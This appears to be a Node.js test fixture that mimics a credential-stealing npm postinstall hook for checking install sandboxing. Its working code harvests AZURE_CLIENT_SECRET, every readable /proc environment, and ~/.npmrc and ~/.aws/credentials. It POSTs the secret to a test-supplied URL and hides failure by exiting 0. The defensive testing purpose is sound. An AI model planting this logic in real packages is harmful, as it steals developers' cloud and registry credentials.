// Test fixture: what a credential-stealing postinstall script does, aimed only at places the test chooses.
// TG_FIXTURE_MARKER: a file proving the script ran (with the one variable the test keeps on purpose).
// TG_FIXTURE_LOOT: a file that receives the secret from the script's own environment.
// TG_FIXTURE_REPORT: a JSON file that receives what a stealer tries once its own environment is scrubbed:
//   - environ: every /proc/PID/environ it can read (its ancestors first), one entry per process;
//   - home: ~/.npmrc and ~/.aws/credentials, or why they could not be read;
//   - outside: whether it could write the file TG_FIXTURE_OUTSIDE (outside the project);
//   - post: "posted" or "post failed: ..." for the POST of the secret to the loopback URL TG_FIXTURE_URL.
// The script always exits 0, as a stealer would, so that the install looks normal.
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

const secret = String(process.env.AZURE_CLIENT_SECRET);
fs.writeFileSync(process.env.TG_FIXTURE_MARKER, 'postinstall ran; AZURE_CLIENT_ID=' + String(process.env.AZURE_CLIENT_ID) + '\n');
fs.writeFileSync(process.env.TG_FIXTURE_LOOT, secret);

function readEnviron(pid) {
  try {
    return fs.readFileSync('/proc/' + pid + '/environ', 'latin1').split('\0').filter(v => v.length > 0);
  } catch (error) {
    return null;
  }
}

function parentOf(pid) {
  try {
    const match = /^PPid:\s*(\d+)$/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'latin1'));
    return match ? match[1] : null;
  } catch (error) {
    return null;
  }
}

// Ancestors first (the shell npm started, npm, whatever started npm...), then every other process listed.
const ancestors = [];
for (let pid = String(process.pid); pid && pid !== '0' && !ancestors.includes(pid); pid = parentOf(pid)) {
  ancestors.push(pid);
}
let listed = [];
try {
  listed = fs.readdirSync('/proc').filter(name => /^\d+$/.test(name));
} catch (error) {
  // No /proc (not Linux): nothing to read.
}
const environ = [];
for (const pid of [...ancestors, ...listed.filter(pid => !ancestors.includes(pid))]) {
  const variables = readEnviron(pid);
  if (variables !== null) {
    environ.push({ pid: Number(pid), ancestor: ancestors.includes(pid), variables });
  }
}

const home = {};
for (const file of ['.npmrc', path.join('.aws', 'credentials')]) {
  try {
    home[file] = fs.readFileSync(path.join(os.homedir(), file), 'utf8');
  } catch (error) {
    home[file] = 'unreadable: ' + error.code;
  }
}

let outside = 'not tried';
if (process.env.TG_FIXTURE_OUTSIDE) {
  try {
    fs.writeFileSync(process.env.TG_FIXTURE_OUTSIDE, secret);
    outside = 'written';
  } catch (error) {
    outside = 'not written: ' + error.code;
  }
}

function finish(post) {
  fs.writeFileSync(process.env.TG_FIXTURE_REPORT, JSON.stringify({ environ, home, outside, post }, null, 1));
  process.exit(0);
}

const request = http.request(process.env.TG_FIXTURE_URL, { method: 'POST', headers: { 'content-type': 'text/plain' }, timeout: 10000 }, response => {
  response.resume();
  response.on('end', () => finish('posted'));
});
request.on('timeout', () => request.destroy(new Error('timed out')));
request.on('error', error => finish('post failed: ' + error.message));
request.end(secret);
